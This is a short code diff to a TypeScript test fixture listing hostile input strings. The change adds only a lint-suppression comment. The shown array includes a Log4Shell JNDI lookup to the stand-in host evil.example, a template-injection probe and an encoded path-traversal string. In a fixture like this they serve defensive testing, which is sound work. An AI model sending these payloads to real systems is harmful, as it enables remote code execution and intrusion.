@@ -76,6 +76,7 @@ export const HOSTILE_STRINGS = [
   '中'.repeat(10_001),
   'a'.repeat(100_001),
   '%00%2e%2e%2f',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text an attacker sends, not a template
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
 ];
